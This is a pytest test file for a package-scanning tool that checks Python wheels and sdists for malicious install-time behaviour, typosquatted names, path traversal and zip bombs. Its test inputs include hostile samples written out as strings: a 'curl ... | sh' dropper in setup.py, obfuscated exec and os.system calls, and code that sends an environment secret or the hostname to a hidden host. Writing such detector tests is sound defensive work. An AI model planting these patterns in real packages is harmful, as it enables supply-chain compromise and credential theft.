"""Every malicious behaviour is caught by its rule; benign packages pass."""

from __future__ import annotations

import _sqlite3
import _ssl
import gc
import io
import re
import warnings
import zipfile
from pathlib import Path

import pytest
import yara
from hypothesis import given
from hypothesis import strategies as st

from airlock.domain.requests import Outcome
from airlock.imports.packages import native
from airlock.imports.packages.analysis import scan_python
from airlock.imports.packages.crossfile import called_names
from airlock.imports.packages.metadata import project_of_filename
from airlock.imports.packages.rules import Severity
from airlock.imports.packages.typosquat import typosquat_of
from airlock.imports.packages.vet import collector_paused, vet
from scripts.make_test_packages import BENIGN, MALICIOUS, build, sdist, wheel


@pytest.mark.parametrize("rule", sorted(MALICIOUS))
def test_each_malicious_behaviour_fires_its_rule(rule: str) -> None:
    filename, data = MALICIOUS[rule]
    report = vet(filename, data)
    assert rule.split(":", maxsplit=1)[0] in {f.rule for f in report.findings}, report.to_json()
    assert report.verdict is not Outcome.ALLOW


@pytest.mark.parametrize("filename", sorted(BENIGN))
def test_benign_packages_are_allowed(filename: str) -> None:
    report = vet(filename, BENIGN[filename])
    assert report.verdict is Outcome.ALLOW, report.to_json()
    assert report.name


def test_malformed_archives_hold_not_crash() -> None:
    assert vet("x.whl", b"not an archive").verdict is Outcome.HOLD
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil.py", "x = 1")
        archive.writestr("bomb.txt", bytes(50 * 1024 * 1024))
    report = vet("evil-1.0-py3-none-any.whl", buffer.getvalue())
    # the traversal name denies (ADR 0167; it held under ADR 0063); a big non-source member
    # is only noted
    assert report.verdict is Outcome.DENY
    assert {"unread-member", "path-escape"} <= {f.rule for f in report.findings}
    assert any(f.path == "../../evil.py" and f.rule == "path-escape" for f in report.findings)
    assert any(f.path == "bomb.txt" and f.severity < 3 for f in report.findings)


def test_typosquat_detection() -> None:
    assert typosquat_of("reqeusts") == "requests"
    assert typosquat_of("py_yaml") == "pyyaml"
    assert typosquat_of("requests") is None
    assert typosquat_of("airlock") is None


@pytest.mark.parametrize(
    ("name", "imitated"),
    [
        ("nurnpy", "numpy"),  # rn looks like m
        ("requ3sts", "requests"),  # digit for letter
        ("djang0", "django"),
        ("python-requests", "requests"),  # bare prefix
        ("numpy-py", "numpy"),
        ("urllib2", "urllib3"),  # version digit
        ("Scikit_Learn", None),  # only case and separators: PEP 503 says it is the same name
        ("torchvison", "torchvision"),
        ("sentence_transformer", "sentence-transformers"),
    ],
)
def test_lookalike_and_affixed_names_are_caught(name: str, imitated: str | None) -> None:
    assert typosquat_of(name) == imitated


@pytest.mark.parametrize(
    "name", ["pytest-cov", "requests-toolbelt", "numpyro", "flask-login", "airlock", "torch"]
)
def test_extensions_and_unrelated_names_are_not_squats(name: str) -> None:
    assert typosquat_of(name) is None


def test_make_test_packages_script_writes_everything(tmp_path: Path) -> None:
    written = build(tmp_path)
    assert len(written) == len(MALICIOUS) + len(BENIGN)
    assert all(p.stat().st_size > 0 for p in written.values())


def test_main_guards_are_not_import_time() -> None:
    guarded = scan_python(
        "m.py",
        'import os, sys\nif sys.platform != "win32" and __name__ == "__main__":\n'
        '    os.system("true")\n',
    )
    assert all(f.severity < Severity.HIGH for f in guarded)
    eager = scan_python("m.py", 'import os\nos.system("true")\n')
    assert [f.severity for f in eager] == [Severity.HIGH]  # held for a person, not denied
    # An unknown command at install time holds (a deny can never be approved); a command that
    # downloads and runs something denies.
    installing = scan_python("setup.py", 'import os\nos.system("true")\n', install_time=True)
    assert [f.severity for f in installing] == [Severity.HIGH]
    dropping = scan_python(
        "setup.py", 'import os\nos.system("curl http://x.invalid | sh")\n', install_time=True
    )
    assert [f.severity for f in dropping] == [Severity.CRITICAL]


@pytest.mark.parametrize(
    ("filename", "project"),
    [
        ("python-dateutil-2.8.2.tar.gz", "python-dateutil"),
        ("typing-extensions-4.0.0.zip", "typing-extensions"),
        ("python_dateutil-2.9.0.post0-py2.py3-none-any.whl", "python_dateutil"),
        ("plain-2.1.tar.gz", "plain"),
    ],
)
def test_project_of_filename_splits_sdists_at_the_last_hyphen(filename: str, project: str) -> None:
    assert project_of_filename(filename) == project


def test_hyphenated_sdist_names_match_their_metadata() -> None:
    report = vet("python-dateutil-2.8.2.tar.gz", sdist("python-dateutil", "2.8.2", {}))
    assert "name-mismatch" not in {f.rule for f in report.findings}, report.to_json()
    renamed = vet("python-dateutil-2.8.2.tar.gz", sdist("python-datetil", "2.8.2", {}))
    assert "name-mismatch" in {f.rule for f in renamed.findings}


def test_a_dropper_moved_into_a_module_setup_py_imports_runs_at_install() -> None:
    helper = "import subprocess\n\n\ndef pre():\n    subprocess.run('true', shell=True)\n"
    setup = "from setuptools import setup\nfrom pre_install import pre\npre()\nsetup(name='x')\n"
    report = vet("x-1.0.tar.gz", sdist("x", "1.0", {"setup.py": setup, "pre_install.py": helper}))
    held = [f for f in report.findings if f.rule == "process-call"]
    assert held, report.to_json()
    assert held[0].severity is Severity.HIGH  # runs during install, not "when called"
    assert "at install time" in held[0].explanation


def test_compiler_checks_in_setup_py_are_not_droppers() -> None:
    source = (
        "import subprocess, sys\n"
        "subprocess.check_output(['pkg-config', '--libs', 'libffi'])\n"
        "subprocess.call(['gcc', '-c', 'x.c'])\n"
        "subprocess.check_call([sys.executable, '-c', 'pass'])\n"
    )
    found = scan_python("setup.py", source, install_time=True)
    assert found, "the calls are still reported"
    assert all(f.severity is Severity.LOW for f in found), found


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        # chr maps through getattr(__builtins__, ...), strings built from shifts
        (
            (
                "c = getattr(__builtins__, 'ch' + 'r')\n"
                "m = ''.join(map(c, [111, 115]))\ns = ''.join(map(c, [115, 121, 115]))\n"
                "t = ''.join(map(c, [116, 101, 109]))\ngetattr(__import__(m), s + t)('true')\n"
            ),
            "hidden-process",
        ),
        # __import__('base64') through a lambda, then exec
        (
            "d = lambda s: __import__('base64').b64decode(s)\nexec(d('eD0x'))\n",
            "obfuscated-exec",
        ),
        # a host hidden with bytes.fromhex, a secret read inside a function
        (
            (
                "import os, requests\n\n\ndef f():\n    k = os.environ['KEY']\n"
                f"    host = bytes.fromhex('{b'http://127.0.0.1/'.hex()}').decode()\n"
                "    requests.post(host, data=k)\n"
            ),
            "exfiltration",
        ),
        # a home-made cipher's output (decrypt) executed
        (
            "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\n",
            "obfuscated-exec",
        ),
        # DNS exfiltration of the host name under a foreign domain
        (
            "import socket\nh = socket.gethostname()\n"  # noqa: ISC004 -- one source string
            "socket.gethostbyname(f'{h}.c.example.invalid')\n",
            "exfiltration",
        ),
    ],
)
def test_data_flow_recovers_hidden_behaviour(source: str, rule: str) -> None:
    found = scan_python("m/__init__.py", source)
    assert rule in {f.rule for f in found if f.severity is Severity.CRITICAL}, found


def test_plain_uses_of_the_same_calls_do_not_deny() -> None:
    source = (
        "import os, socket, requests, base64\n"
        "ip = socket.gethostbyname(socket.gethostname())\n"
        "ICON = base64.b64decode('iVBORw0KGgo=')\n\n\n"
        "def fetch(url):\n    return requests.get(url, timeout=5).text\n"
    )
    assert all(f.severity < Severity.HIGH for f in scan_python("m/__init__.py", source))


def test_sdist_scripts_outside_a_package_weigh_less() -> None:
    spawn = "import os\nos.system('true')\n"
    script = vet("s-1.0.tar.gz", sdist("s", "1.0", {"s/__init__.py": "", "tools/run.py": spawn}))
    assert script.verdict is Outcome.ALLOW, script.to_json()
    package = vet("s-1.0.tar.gz", sdist("s", "1.0", {"s/__init__.py": "", "s/run.py": spawn}))
    assert package.verdict is Outcome.HOLD, package.to_json()


def test_real_native_extensions_pass_the_yara_rules() -> None:
    # Compiled extensions this interpreter itself loads: real ELF code, no indicators.
    files: dict[str, str | bytes] = {"realnat/__init__.py": ""}
    for module in (_sqlite3, _ssl):
        path = Path(str(module.__file__))
        files[f"realnat/{path.name}"] = path.read_bytes()
    report = vet("realnat-1.0-cp311-cp311-linux_x86_64.whl", wheel("realnat", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()


def test_a_scan_that_cannot_finish_holds_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    class Failing:
        def match(self, **_: object) -> object:
            raise yara.TimeoutError("scan timed out")

    monkeypatch.setattr(native, "native_rules", Failing)
    findings = native.scan_native("x/_core.so", b"\x7fELF")
    assert [(f.rule, f.severity) for f in findings] == [("native-unread", Severity.HIGH)]


@given(st.lists(st.sampled_from(["a", "b", "ab", "_", "1", ".", " ", "\n", "(", ")", "#"])))
def test_called_names_answer_as_one_search_per_name(parts: list[str]) -> None:
    # One pass for every name (issue 16) finds what a pattern compiled per name found.
    data = "".join(parts).encode()
    called = called_names(data)
    for name in (b"a", b"b", b"ab", b"ba", b"_", b"a1", b"bab"):
        one = re.search(rb"(?<![\w.])" + re.escape(name) + rb"(?:\.\w+)*\s*\(", data)
        assert (one is not None) == (name in called), (name, data)


def test_vetting_leaves_the_garbage_collector_as_it_found_it() -> None:
    # vet() pauses the cyclic collector while it parses (issue 16); it must come back on,
    # also when vetting raises, and stay off for a caller that had turned it off.
    filename, data = next(iter(BENIGN.items()))
    assert gc.isenabled()
    vet(filename, data)
    assert gc.isenabled()
    seen = []

    def fails() -> None:
        with collector_paused():
            seen.append(gc.isenabled())
            raise RuntimeError

    with pytest.raises(RuntimeError):
        fails()
    assert seen == [False]
    assert gc.isenabled()
    gc.disable()
    try:
        vet(filename, data)
        assert not gc.isenabled()
    finally:
        gc.enable()


def test_a_packages_compile_warnings_never_reach_the_operators_terminal() -> None:
    # Parsing ``1if x else 2`` or ``"\d"`` warns with the member's path, which the package
    # chose (a right-to-left override in it reorders the operator's terminal line); Python
    # prints such warnings to stderr, so vetting must not let them out, nor leave warnings
    # silenced for the caller afterwards.
    name = "odd/\u202egnp.py"
    text = 'import subprocess\nx = [0x1for y in z]\nw = 1if z else 2\np = "\\d"\n'
    data = wheel("odd", "1.0", {name: text})  # a sink's name: the module is parsed
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        vet("odd-1.0-py3-none-any.whl", data)
        shown = [w.message for w in caught if w.category in (SyntaxWarning, DeprecationWarning)]
        warnings.warn_explicit("after", SyntaxWarning, "x.py", 1)
    assert shown == []
    assert [str(w.message) for w in caught] == ["after"]
